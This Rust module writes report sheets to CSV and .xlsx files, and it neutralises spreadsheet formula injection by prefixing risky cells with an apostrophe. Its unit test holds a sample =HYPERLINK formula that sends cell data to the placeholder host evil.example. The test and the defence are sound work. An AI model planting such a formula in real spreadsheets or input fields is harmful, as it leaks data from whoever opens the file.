//! A report's sheets as the files the operations department opens in Excel: CSV (UTF-8 with a
//! byte-order mark, without which Excel shows Chinese as mojibake) and an `.xlsx` workbook.

use rust_xlsxwriter::{Chart as XlsxChart, ChartType, Format, Workbook};

use crate::domain::report::{Cell, Chart, Sheet};
use crate::error::AppError;

/// `text/csv`.
pub const CSV: &str = "text/csv";
/// The `.xlsx` workbook media type.
pub const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// An `.xlsx` workbook, as the OpenAPI document describes the download (binary).
#[derive(utoipa::ToSchema)]
#[schema(value_type = String, format = Binary)]
pub struct XlsxFile(pub Vec<u8>);

fn failed(error: impl std::error::Error + 'static) -> AppError {
    AppError::internal_error("writing CSV", &error)
}

/// Text as a spreadsheet shows it, never as a formula: a cell starting with `=`, `+`, `-`, `@`,
/// tab or carriage return would run as one when the desk opens the CSV in Excel or WPS (a
/// customer named `=HYPERLINK(...)` becomes a live link), so it is prefixed with `'` (OWASP's
/// advice). Numbers are written by [`cell_text`] from their own cells and stay numbers.
fn inert_text(text: &str) -> String {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

/// Every CSV cell goes through here: text made inert, numbers as numbers.
fn cell_text(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) => inert_text(text),
        Cell::Count(n) => n.to_string(),
        Cell::Number(n) => n.map(|n| n.to_string()).unwrap_or_default(),
    }
}

/// The sheets one after another in one CSV file: each as its name on a line of its own, its
/// headings, its rows, and an empty line.
pub fn csv(sheets: &[Sheet]) -> Result<Vec<u8>, AppError> {
    let mut out = BOM.to_vec();
    for sheet in sheets {
        let mut writer = csv::WriterBuilder::new()
            .flexible(true)
            .from_writer(&mut out);
        writer.write_record([sheet.name]).map_err(failed)?;
        writer.write_record(&sheet.headings).map_err(failed)?;
        for row in &sheet.rows {
            writer
                .write_record(row.iter().map(cell_text))
                .map_err(failed)?;
        }
        writer.flush().map_err(failed)?;
        drop(writer);
        // Written by hand: the csv crate writes a record of one empty field as `""`.
        out.push(b'\n');
    }
    Ok(out)
}

/// The sheets as an `.xlsx` workbook, one worksheet each, headings in bold, numbers as numbers,
/// and `charts` as native Excel line charts over their sheets' cells (they follow edits).
pub fn xlsx(sheets: &[Sheet], charts: &[Chart]) -> Result<Vec<u8>, AppError> {
    let failed = |e: rust_xlsxwriter::XlsxError| AppError::internal_error("writing XLSX", &e);
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    for sheet in sheets {
        let worksheet = workbook.add_worksheet();
        worksheet.set_name(sheet.name).map_err(failed)?;
        for (column, heading) in (0u16..).zip(&sheet.headings) {
            worksheet
                .write_string_with_format(0, column, *heading, &bold)
                .map_err(failed)?;
        }
        for (row, cells) in (1u32..).zip(&sheet.rows) {
            for (column, cell) in (0u16..).zip(cells) {
                match cell {
                    Cell::Text(text) => worksheet.write_string(row, column, text),
                    // Counts stay far below 2^53, where f64 is exact.
                    Cell::Count(n) => worksheet.write_number(row, column, *n as f64),
                    Cell::Number(Some(n)) => worksheet.write_number(row, column, *n),
                    Cell::Number(None) => continue,
                }
                .map_err(failed)?;
            }
        }
        worksheet.autofit();
    }
    for chart in charts {
        let mut drawn = XlsxChart::new(ChartType::Line);
        drawn.title().set_name(chart.title);
        drawn.y_axis().set_num_format("0%");
        let last = chart.rows.max(1);
        for column in &chart.series {
            drawn
                .add_series()
                .set_name((chart.sheet, 0, *column))
                .set_categories((chart.sheet, 1, chart.categories, last, chart.categories))
                .set_values((chart.sheet, 1, *column, last, *column));
        }
        let columns = sheets
            .iter()
            .find(|s| s.name == chart.sheet)
            .map_or(0, |s| s.headings.len());
        let worksheet = workbook.worksheet_from_name(chart.sheet).map_err(failed)?;
        let column = u16::try_from(columns + 1).unwrap_or(u16::MAX);
        worksheet.insert_chart(1, column, &drawn).map_err(failed)?;
    }
    workbook.save_to_buffer().map_err(failed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_would_run_as_a_formula_is_inert_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
            "+1+2",
            "-2+3",
            "@SUM(A1:A2)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(
                cell_text(&Cell::Text(formula.into())),
                format!("'{formula}")
            );
        }
        assert_eq!(
            cell_text(&Cell::Text("北京示例医院".into())),
            "北京示例医院"
        );
        assert_eq!(cell_text(&Cell::Text("a=b".into())), "a=b");
        assert_eq!(cell_text(&Cell::Number(Some(-1.5))), "-1.5");
        assert_eq!(cell_text(&Cell::Count(3)), "3");
    }
}
